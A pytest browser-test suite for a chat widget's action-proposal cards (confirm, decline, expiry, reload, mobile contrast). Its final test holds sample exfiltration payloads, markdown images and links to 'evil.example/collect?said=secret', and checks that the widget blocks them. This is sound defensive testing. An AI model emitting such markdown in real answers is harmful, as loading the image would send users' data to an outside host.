"""The card of a proposal: what it shows, what the visitor decides, and what is said afterwards."""

from __future__ import annotations

from pathlib import Path

import pytest

from webchatagent.core.links import LinkStream, addresses
from webchatagent.core.texts import say

pytestmark = pytest.mark.browser
PHONE = {"viewport": {"width": 390, "height": 844}, "is_mobile": True, "has_touch": True}
CONTRAST = (Path(__file__).parent / "contrast.js").read_text(encoding="utf-8")
PATH = "/api/actions/5e1b0b3e-7a2c-4e0e-9a53-0f2b7f6f7a11.ab12cd34." + "f" * 64
ACTIVE = "document.querySelector('webchatagent-widget').shadowRoot.activeElement"
FACTS = {
    "en": ("Change the delivery address", "Order", "New address"),
    "de": ("Lieferadresse ändern", "Bestellung", "Neue Adresse"),
    "hi": ("डिलीवरी का पता बदलें", "ऑर्डर", "नया पता"),
}


def proposal(locale="en"):
    """A card as the platform sends it."""
    title, order, address = FACTS[locale]
    return {
        "type": "action",
        "id": "5e1b0b3e-7a2c-4e0e-9a53-0f2b7f6f7a11",
        "state": "proposed",
        "title": title,
        "text": say("action_question", locale),
        "rows": [
            {"label": order, "value": "A-1042"},
            {"label": address, "value": "Example Street 12, 10115 Berlin"},
        ],
        "buttons": [
            {"label": say("action_confirm", locale), "action": f"{PATH}/confirm"},
            {"label": say("action_decline", locale), "action": f"{PATH}/decline"},
        ],
        "expires": "2026-11-24T12:00:00+00:00",
    }


def ask(page, text="Please change the address of my order"):
    if not page.locator(".composer textarea").is_visible():
        page.click(".l")
    page.fill(".composer textarea", text)
    page.keyboard.press("Enter")
    page.locator(".acts").last.wait_for()


@pytest.mark.parametrize(
    ("button", "state", "message"),
    [("Confirm", "done", "Changed."), ("Cancel", "declined", "Cancelled. Nothing was done.")],
)
def test_the_visitor_decides_with_the_keyboard_and_reads_the_outcome(visit, fake, button, state, message):
    fake.parts, fake.posted = [proposal()], (200, {"state": state, "message": message})
    page = visit()
    ask(page)
    card = page.get_by_role("group", name="Change the delivery address")
    assert "A-1042" in card.inner_text() and "Nothing happens until you confirm." in card.inner_text()
    page.get_by_role("button", name=button).focus()
    page.keyboard.press("Enter")
    card.locator(".done", has_text=message).wait_for()
    verb = "confirm" if state == "done" else "decline"
    assert len(fake.asked(f"{PATH}/{verb}")) == 1
    assert card.get_by_role("button").count() == 0 and "A-1042" in card.inner_text()
    assert page.evaluate(f"{ACTIVE}.className").startswith("done"), "the focus stays where the button was"
    assert page.locator(".sr[role=status]").inner_text().endswith(message)


@pytest.mark.parametrize(("status", "code"), [(410, "action_expired"), (404, "action_not_found")])
def test_a_proposal_that_is_over_says_so_and_cannot_be_pressed_again(visit, fake, status, code):
    fake.parts, fake.posted = [proposal()], (status, {"error": {"code": code, "message": "x"}})
    page = visit()
    ask(page)
    page.get_by_role("button", name="Confirm").click()
    page.locator(".done", has_text="This can no longer be confirmed.").wait_for()
    assert page.get_by_role("button", name="Confirm").count() == 0


def test_a_connection_that_breaks_leaves_the_buttons(visit, fake):
    fake.parts, fake.posted = [proposal()], (503, {"error": {"code": "try_again", "message": "x"}})
    page = visit()
    ask(page)
    page.get_by_role("button", name="Confirm").click()
    page.get_by_text("We are very busy").wait_for()
    fake.posted = (200, {"state": "done", "message": "Changed."})
    page.get_by_role("button", name="Confirm").click()
    page.locator(".done", has_text="Changed.").wait_for()


def test_after_a_reload_the_outcome_stands_there(visit, fake):
    settled = {k: v for k, v in proposal().items() if k in ("type", "id", "title")}
    fake.parts = [{**settled, "state": "declined", "done": "Cancelled. Nothing was done."}]
    page = visit()
    ask(page)
    page.reload()
    page.click(".l")
    page.locator(".done.not", has_text="Cancelled.").wait_for()
    assert page.get_by_role("button", name="Confirm").count() == 0


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("locale", ["en", "de", "hi"])
def test_a_proposal_reads_well_on_a_phone(visit, fake, scheme, locale, tmp_path):
    fake.config["locale"] = locale
    fake.parts = [proposal(locale)]
    page = visit(**PHONE, color_scheme=scheme, reduced_motion="reduce")
    ask(page)
    assert page.evaluate(CONTRAST) == []
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    buttons = page.locator(".part .row button")
    assert buttons.evaluate_all("(all) => all.filter((el) => el.getBoundingClientRect().height < 44).length") == 0
    page.screenshot(path=tmp_path / f"action-{locale}-{scheme}.png")


def test_an_address_that_no_source_holds_is_text_and_nothing_is_fetched(visit, fake):
    evil = "https://evil.example/collect?said=secret"
    allowed = addresses(["https://shop.example/hours"])
    stream = LinkStream(lambda: allowed)
    said = (
        f"![x]({evil}) [y]({evil}) <{evil}> {evil} www.evil.example [z]: {evil}\n\n![x][z] https://shop.example/hours"
    )
    fake.answer, fake.sources = stream.feed(said) + stream.close(), []
    page = visit()
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    ask(page)
    links = page.locator(".bot .text a").evaluate_all("(all) => all.map((a) => a.href)")
    assert links == ["https://shop.example/hours"] and page.locator(".bot img").count() == 0
    assert not [url for url in asked if "evil" in url]
